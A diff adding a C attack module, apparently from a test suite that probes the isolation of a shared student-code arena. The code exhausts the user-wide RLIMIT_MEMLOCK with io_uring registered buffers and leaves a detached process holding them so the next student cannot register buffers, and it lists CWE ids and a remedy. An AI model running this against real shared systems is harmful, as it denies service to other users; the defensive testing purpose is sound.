@@ -1,0 +1,89 @@
+// SPDX-License-Identifier: MIT
+/*
+ * registered-buffers.c - eight megabytes that everybody shares.
+ *
+ * Goal: the next student's honest program cannot register its buffers.
+ * Means: what io_uring pins is charged to RLIMIT_MEMLOCK of the user, not of the process: 8 MiB by
+ * default, for all. A survivor registers them, in halves and halves of halves until nothing is left
+ * that would be worth it. The charge goes by the machine's uid, so this is for arenas whose ids are
+ * nobody else's.
+ */
+#include "attacks/attack.h"
+
+#include <errno.h>
+#include <linux/io_uring.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <unistd.h>
+
+#define ALL   (8UL << 20)
+#define LEAST (64UL << 10)
+#define NEED  (256UL << 10) /* the honest student's */
+#define LIFE  5
+
+/* A ring of its own with a registered buffer of n bytes. 0; 1: no ring; -1: not registered. */
+static int pin(size_t n)
+{
+	struct io_uring_params params = { 0 };
+	int ring = (int)syscall(SYS_io_uring_setup, 2, &params);
+	struct iovec buffer = { mmap(NULL, n, PROT_READ | PROT_WRITE,
+				     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), n };
+
+	if (ring < 0)
+		return 1;
+	if (buffer.iov_base != MAP_FAILED &&
+	    syscall(SYS_io_uring_register, ring, IORING_REGISTER_BUFFERS, &buffer, 1) == 0)
+		return 0;
+	close(ring);
+	return -1;
+}
+
+static enum claim run(const struct brief *b)
+{
+	int pinned = 0;
+	pid_t pid;
+
+	attempting(b);
+	for (size_t n = ALL; n >= LEAST; n /= 2)
+		while (pinned < 64 && pin(n) == 0)
+			pinned++;
+	if (!pinned)
+		return denied("io_uring");
+	pid = fork();
+	if (pid)
+		return pid < 0 ? denied("fork") : CLAIM_DONE;
+	setsid();
+	close_range(0, 2, 0);
+	sleep(LIFE);
+	_exit(0);
+}
+
+/*
+ * Copies a file as fast as can be; without rings it reads and writes. It is patient: the kernel gives
+ * back what a dead ring had pinned when it finds the time.
+ */
+static enum claim victim(const struct brief *b)
+{
+	(void)b;
+	for (int patience = 0; patience < 100; patience++) {
+		if (pin(NEED) >= 0 || errno != ENOMEM)
+			return CLAIM_DONE;
+		usleep(10000);
+	}
+	return failed("io_uring_register");
+}
+
+const struct attack attack = {
+	.effect = "the next student cannot register buffers",
+	.means = "a survivor's io_uring buffers use up what the user may lock in memory",
+	.oracle = "victim",
+	.scene = SCENE_BEFORE_VICTIM,
+	.needs = NEED_IO_URING | NEED_IDS,
+	.id = "IPC-12",
+	.attack_id = "T1499.001, CWE-770, CWE-772",
+	.remedy = "an allow list of system calls; RLIMIT_MEMLOCK = 0; end every process of a student",
+	.refs = (const char *const[]){ "io_uring_register(2), RLIMIT_MEMLOCK", NULL },
+	.run = run,
+	.victim = victim,
+};
